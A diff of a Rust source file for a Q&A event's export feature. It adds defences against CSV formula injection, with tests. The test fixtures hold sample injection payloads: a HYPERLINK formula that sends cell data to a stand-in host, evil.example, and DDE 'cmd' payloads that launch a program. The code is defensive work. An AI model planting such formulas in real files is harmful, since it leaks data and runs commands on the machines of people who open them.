@@ -1,7 +1,12 @@
 //! The host's export: every question of an event (hidden ones too) with its text, author,
 //! time, votes, and moderation state, as JSON, CSV or a Markdown table. Questions are in the
 //! order they were asked, which is what a transcript wants (the live list's order changes).
+//!
+//! Guests write the texts, and hosts open the CSV in a spreadsheet: a cell that starts like a
+//! formula is neutralised there and in the Markdown table ([`spreadsheet_safe`]); the JSON
+//! export is data and carries every text as asked.
 
+use std::borrow::Cow;
 use std::time::{Duration, UNIX_EPOCH};
 
 use axum::extract::{FromRequestParts, State};
@@ -59,7 +64,7 @@ impl Format {
     }
 }
 
-/// One exported question. Field order is the CSV column order.
+/// One exported question. Field order is the JSON's and [`CSV_COLUMNS`]'s.
 #[derive(Serialize)]
 struct Row {
     qid: QuestionId,
@@ -145,26 +150,60 @@ fn internal(error: impl std::fmt::Display) -> ApiError {
     ApiError::Unavailable
 }
 
+/// The CSV export's header, one name per [`Row`] field in order.
+const CSV_COLUMNS: [&str; 7] = [
+    "qid",
+    "text",
+    "who",
+    "asked_at",
+    "votes",
+    "answered_at",
+    "hidden",
+];
+
 fn csv_body(rows: &[Row]) -> Result<Vec<u8>, ApiError> {
     let mut writer = csv::Writer::from_writer(Vec::new());
+    // Written even with no rows: an empty export still names its columns.
+    writer.write_record(CSV_COLUMNS).map_err(internal)?;
     for row in rows {
-        writer.serialize(row).map_err(internal)?;
-    }
-    // With no rows serde writes no header, but an empty export should still name its columns.
-    if rows.is_empty() {
+        let qid = row.qid.to_string();
+        let votes = row.votes.to_string();
+        let cells: [&str; CSV_COLUMNS.len()] = [
+            &qid,
+            &row.text,
+            &row.who,
+            &row.asked_at,
+            &votes,
+            &row.answered_at,
+            if row.hidden { "true" } else { "false" },
+        ];
+        // Every cell, not just the guests' texts: the rule holds whatever a column becomes.
+        // The csv writer quotes a cell that needs it (a separator, a quote, a line break).
         writer
-            .write_record([
-                "qid",
-                "text",
-                "who",
-                "asked_at",
-                "votes",
-                "answered_at",
-                "hidden",
-            ])
+            .write_record(
+                cells
+                    .map(spreadsheet_safe)
+                    .iter()
+                    .map(|cell| cell.as_bytes()),
+            )
             .map_err(internal)?;
     }
     writer.into_inner().map_err(internal)
+}
+
+/// What a spreadsheet reads as the start of a formula (OWASP's CSV-injection rule): `=`,
+/// `+`, `-`, `@`, a tab and a carriage return.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A cell's text made safe to open in a spreadsheet: one that starts like a formula gets a
+/// leading `'`, which spreadsheets read as "this is text" and do not show; any other text is
+/// kept as it is.
+fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
+    if cell.starts_with(FORMULA_STARTS) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
 }
 
 fn markdown(rows: &[Row]) -> String {
@@ -173,8 +212,8 @@ fn markdown(rows: &[Row]) -> String {
         out.push_str(&format!(
             "| {} | {} | {} | {} | {} | {} |\n",
             row.asked_at,
-            markdown_cell(&row.text),
-            markdown_cell(&row.who),
+            markdown_cell(&spreadsheet_safe(&row.text)),
+            markdown_cell(&spreadsheet_safe(&row.who)),
             row.votes,
             row.answered_at,
             if row.hidden { "yes" } else { "no" },
@@ -209,5 +248,119 @@ mod tests {
     fn markdown_cells_stay_one_cell() {
         assert_eq!(markdown_cell("a | b\nc"), "a \\| b<br>c");
         assert_eq!(rfc3339(0), "1970-01-01T00:00:00Z");
+    }
+
+    fn row(text: &str, who: &str) -> Row {
+        Row {
+            qid: QuestionId::from_u128(7),
+            text: text.into(),
+            who: who.into(),
+            asked_at: rfc3339(0),
+            votes: 3,
+            answered_at: String::new(),
+            hidden: false,
+        }
+    }
+
+    /// The export's CSV as a spreadsheet's importer would split it: header, then rows of cells.
+    fn csv_cells(rows: &[Row]) -> Vec<Vec<String>> {
+        let body = csv_body(rows).expect("renders");
+        csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(&body[..])
+            .records()
+            .map(|record| record.expect("parses").iter().map(str::to_owned).collect())
+            .collect()
+    }
+
+    /// One case per character of the OWASP rule, each in the text and the author's name.
+    const FORMULAS: [(char, &str); 6] = [
+        (
+            '=',
+            "=HYPERLINK(\"https://evil.example/?\"&A1,\"see slides\")",
+        ),
+        ('+', "+1+cmd|' /C calc'!A0"),
+        ('-', "-2+3 and a question"),
+        ('@', "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ('\t', "\t=1+1 behind a tab"),
+        ('\r', "\r=1+1 behind a carriage return"),
+    ];
+
+    #[test]
+    fn each_formula_start_gets_a_leading_quote() {
+        for (start, text) in FORMULAS {
+            assert!(text.starts_with(start));
+            assert_eq!(spreadsheet_safe(text), format!("'{text}"), "{start:?}");
+            let alone = start.to_string();
+            assert_eq!(
+                spreadsheet_safe(&alone),
+                format!("'{start}"),
+                "{start:?} alone"
+            );
+        }
+    }
+
+    #[test]
+    fn other_text_is_kept_as_it_is() {
+        for text in [
+            "",
+            "How = what?",
+            "a - b",
+            " =1+1",
+            "'=already quoted",
+            "\u{FF1D}fullwidth",
+            "2024-01-01T00:00:00Z",
+        ] {
+            assert!(
+                matches!(spreadsheet_safe(text), Cow::Borrowed(kept) if kept == text),
+                "{text:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn csv_cells_that_start_a_formula_are_quoted_text() {
+        for (start, text) in FORMULAS {
+            let name = format!("{start}Mallory");
+            let cells = csv_cells(&[row(text, &name)]);
+            assert_eq!(cells[0], CSV_COLUMNS, "{start:?}: the header");
+            assert_eq!(cells[1][1], format!("'{text}"), "{start:?}: the text");
+            assert_eq!(cells[1][2], format!("'{name}"), "{start:?}: the name");
+            // The other cells are as they were.
+            assert_eq!(cells[1][0], QuestionId::from_u128(7).to_string());
+            assert_eq!(cells[1][3..], ["1970-01-01T00:00:00Z", "3", "", "false"]);
+        }
+    }
+
+    #[test]
+    fn the_csv_is_quoted_where_the_format_needs_it() {
+        let body = csv_body(&[row("\r=1+1, \"two\"", "Ada")]).expect("renders");
+        let body = String::from_utf8(body).expect("utf-8");
+        let line = body.split_once('\n').expect("a header line").1;
+        assert!(line.contains(",\"'\r=1+1, \"\"two\"\"\",Ada,"), "{line:?}");
+        let plain = csv_cells(&[row("What is next?", "Ada")]);
+        assert_eq!(plain[1][1], "What is next?");
+    }
+
+    #[test]
+    fn markdown_text_cells_that_start_a_formula_are_quoted_text() {
+        for (start, text) in FORMULAS {
+            let name = format!("{start}Mallory");
+            let table = markdown(&[row(text, &name)]);
+            let cells: Vec<&str> = table.lines().nth(2).expect("a row").split(" | ").collect();
+            assert_eq!(
+                cells[1],
+                markdown_cell(&format!("'{text}")),
+                "{start:?}: the text"
+            );
+            assert!(cells[1].starts_with('\''), "{start:?}: {table}");
+            assert_eq!(
+                cells[2],
+                markdown_cell(&format!("'{name}")),
+                "{start:?}: the name"
+            );
+        }
+        let plain = markdown(&[row("What is next?", "Ada")]);
+        assert!(plain.contains("| What is next? | Ada |"), "{plain}");
     }
 }
